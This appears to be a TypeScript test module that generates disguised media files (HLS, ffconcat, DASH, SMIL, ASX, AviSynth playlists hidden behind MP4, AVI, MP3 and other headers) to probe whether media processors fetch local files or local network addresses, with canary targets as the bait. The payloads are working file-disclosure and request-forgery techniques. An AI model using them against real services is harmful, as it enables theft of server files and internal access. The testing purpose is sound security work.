import { type Attack, addressesOf, textAttack, unreadable } from './attack.ts'
import { box, latin1, riff, u16le, u32le } from './bytes.ts'
import type { Canaries } from './canaries.ts'

/** Files that name other files: a reader that follows them opens what is not the sender's. */

/** One address that does not look like a segment's, and some readers take none. */
const segments = (aims: Canaries) => addressesOf(aims).filter((address) => address.endsWith('.ts'))

const hls = (aims: Canaries) =>
  [
    '#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0',
    ...segments(aims).map((address) => `#EXTINF:10.0,\n${address}`),
    '#EXT-X-ENDLIST\n',
  ].join('\n')

/** Keys and heads are fetched before any segment. */
const keyed = ({ tcp, trap }: Canaries) =>
  [
    '#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:10',
    `#EXT-X-KEY:METHOD=AES-128,URI="file://${trap}"\n#EXT-X-MAP:URI="${trap}"\n#EXTINF:10.0,\nhttp://127.0.0.1:${tcp.v4}/a`,
    '#EXT-X-ENDLIST\n',
  ].join('\n')

const master = (aims: Canaries) =>
  [
    '#EXTM3U',
    ...segments(aims).flatMap((address) => [
      `#EXT-X-MEDIA:TYPE=SUBTITLES,GROUP-ID="s",NAME="s",DEFAULT=YES,AUTOSELECT=YES,URI="${address}"`,
      `#EXT-X-STREAM-INF:BANDWIDTH=1,SUBTITLES="s"\n${address}`,
    ]),
    '',
  ].join('\n')

const concat = (aims: Canaries) =>
  `ffconcat version 1.0\n${addressesOf(aims)
    .map((address) => `file '${address}'`)
    .join('\n')}\n`

const dash = (aims: Canaries) => `<?xml version="1.0"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S" minBufferTime="PT1S" profiles="urn:mpeg:dash:profile:full:2011">
${addressesOf(aims)
  .map(
    (address, at) =>
      `<Period id="${at}"><AdaptationSet mimeType="video/mp4"><Representation id="v${at}" bandwidth="1"><BaseURL>${address}</BaseURL></Representation></AdaptationSet></Period>`,
  )
  .join('\n')}
</MPD>\n`

const sdp = ({ tcp, udp }: Canaries) =>
  `v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\na=control:rtsp://127.0.0.1:${tcp.v4}/\r\nm=video ${udp.v4} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n`

const smil = (aims: Canaries) =>
  `<smil><body><video src="http://127.0.0.1:${aims.tcp.v4}/"/><ref src="${aims.trap}"/></body></smil>`
const asx = (aims: Canaries) => `<ASX version="3.0"><Entry><Ref href="http://127.0.0.1:${aims.tcp.v4}/"/></Entry></ASX>`
const avisynth = (aims: Canaries) => `DirectShowSource("${aims.trap}")\nImport("${aims.secret}")\n`
const strange = { vobsub: '# VobSub index file, v7\n', realtext: '<window></window>\n', metadata: ';FFMETADATA1\n' }

const disguises: [name: string, filename: string, disguise: (playlist: Buffer) => Buffer][] = [
  ['in the first box of a film', 'film.mp4', (list) => box('ftyp', latin1('isom\0\0\0\0'), list.subarray(0, 2000))],
  [
    'behind the first box of a film',
    'film.mp4',
    (list) => Buffer.concat([box('ftyp', latin1('isom\0\0\0\0isom')), list]),
  ],
  ['behind the head of an AVI', 'film.avi', (list) => riff('RIFF', latin1('AVI '), list)],
  ['behind a tag', 'song.mp3', (list) => Buffer.concat([latin1('ID3\x04\0\0\0\0\0\x14'), Buffer.alloc(20), list])],
  ['between transport packets', 'film.ts', betweenPackets],
  ['behind the head of a Matroska', 'film.mkv', (list) => Buffer.concat([matroskaHead, list])],
  ['behind the head of a FLAC', 'song.flac', (list) => Buffer.concat([latin1('fLaC'), list])],
  ['behind the head of an AMR', 'song.amr', (list) => Buffer.concat([latin1('#!AMR\n'), list])],
  ['behind the mark of an MPEG program', 'film.mpg', (list) => Buffer.concat([latin1('\0\0\x01\xba'), list])],
]
const matroskaHead = Buffer.from('1a45dfa3934282886d6174726f736b61428781044285810200', 'hex')

function betweenPackets(list: Buffer): Buffer {
  const packets = Array.from({ length: Math.ceil(list.length / 187) }, (_, at) =>
    Buffer.concat([latin1('G'), list.subarray(at * 187, at * 187 + 187)], 188),
  )
  return Buffer.concat(packets)
}

/** Subtitles in an AVI are files of their own, which ffmpeg once read with all its readers. */
function withSubtitles(avi: Buffer, subtitles: Buffer): Buffer {
  const gab2 = Buffer.concat([
    latin1('GAB2\0'),
    u16le(2),
    u32le(2),
    latin1('x\0'),
    u16le(4),
    u32le(subtitles.length),
    subtitles,
  ])
  const head = Buffer.alloc(56)
  head.write('txts', 0, 'latin1')
  head.writeUInt32LE(1, 20)
  head.writeUInt32LE(25, 24)
  const stream = riff('LIST', latin1('strl'), riff('strh', head), riff('strf', Buffer.alloc(4)))
  return editRiff(avi, {
    hdrl: (list) => Buffer.concat([list, stream]),
    movi: (list) => Buffer.concat([latin1('movi'), riff('01tx', gab2), list.subarray(4)]),
  })
}

function editRiff(file: Buffer, edits: Record<string, (list: Buffer) => Buffer>): Buffer {
  const parts: Buffer[] = []
  for (let at = 12; at + 8 <= file.length; ) {
    const size = file.readUInt32LE(at + 4)
    const content = file.subarray(at + 8, at + 8 + size)
    const edit = edits[content.toString('latin1', 0, 4)]
    const isList = file.toString('latin1', at, at + 4) === 'LIST'
    // The index no longer fits; readers do without.
    if (isList && edit) parts.push(riff('LIST', edit(content)))
    else if (file.toString('latin1', at, at + 4) !== 'idx1') parts.push(file.subarray(at, at + 8 + size + (size % 2)))
    at += 8 + size + (size % 2)
  }
  return riff('RIFF', latin1('AVI '), ...parts)
}

export const playlists: Attack[] = [
  textAttack('HLS called a film', 'film.mp4', 'video', hls),
  textAttack('HLS', 'list.m3u8', 'video', hls),
  textAttack('HLS called a transport stream', 'film.ts', 'video', hls),
  textAttack('HLS with a key', 'film.mp4', 'video', keyed),
  textAttack('HLS with subtitles', 'film.mp4', 'video', master),
  textAttack('HLS called a picture', 'photo.jpg', 'image', hls),
  textAttack('a concatenation', 'film.mp4', 'video', concat),
  textAttack('a concatenation called sound', 'song.mp3', 'audio', concat),
  textAttack('a DASH manifest', 'film.mp4', 'video', dash),
  textAttack('a session description', 'film.mp4', 'video', sdp),
  textAttack('SMIL', 'film.mp4', 'video', smil),
  textAttack('ASX', 'film.wmv', 'video', asx),
  textAttack('a script of AviSynth', 'film.avi', 'video', avisynth),
  textAttack('a list of M3U', 'list.m3u', 'audio', (aims) => addressesOf(aims).join('\n')),
  textAttack('a playlist behind a byte order mark', 'film.mp4', 'video', (aims) => `\xef\xbb\xbf${hls(aims)}`),
  ...Object.entries(strange).map(([name, text]) =>
    textAttack(name, 'film.mp4', 'video', (aims) => text + addressesOf(aims).join('\n')),
  ),
  ...disguises.flatMap(([name, filename, disguise]) =>
    [hls, concat].map(
      (write): Attack => ({
        name: `${write === hls ? 'HLS' : 'a concatenation'} ${name}`,
        filename,
        as: /mp3|flac|amr/.test(filename) ? 'audio' : 'video',
        bytes: ({ aims }) => disguise(latin1(write(aims))),
        // What an address says may read as a few frames of sound, and then it is no more than that.
        ends: [...unreadable, 'output_mismatch', ...(filename.endsWith('.amr') ? (['processed'] as const) : [])],
        ...(write === hls ? { quick: true } : {}),
      }),
    ),
  ),
  ...[hls, concat].map(
    (write, at): Attack => ({
      name: `a playlist as subtitles of an AVI, ${at + 1}`,
      filename: 'film.avi',
      as: 'video',
      bytes: ({ aims, seeds }) => withSubtitles(seeds.avi, latin1(write(aims))),
      ends: ['processed'],
      ...(at === 0 ? { quick: true } : {}),
    }),
  ),
]
